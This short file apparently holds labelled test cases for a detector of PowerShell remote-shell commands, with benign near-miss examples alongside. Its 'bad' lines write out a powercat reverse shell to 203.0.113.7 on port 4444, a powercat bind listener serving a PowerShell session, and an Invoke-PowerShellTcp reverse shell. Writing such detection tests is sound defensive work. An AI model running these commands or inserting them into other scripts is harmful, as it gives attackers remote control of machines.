# bad: PowerShell's netcat
powercat -c 203.0.113.7 -p 4444 -e cmd
# bad: a PowerShell session behind a port
powercat -l -p 7002 -ep
# bad: a script that is nothing else
Invoke-PowerShellTcp -Reverse -IPAddress 203.0.113.7 -Port 4444
# good: nearly: powercat that moves a file
powercat -c fileserver.example -p 9000 -i C:\build\report.zip
# good: nearly: asks for a port
Test-NetConnection db.example -Port 5432
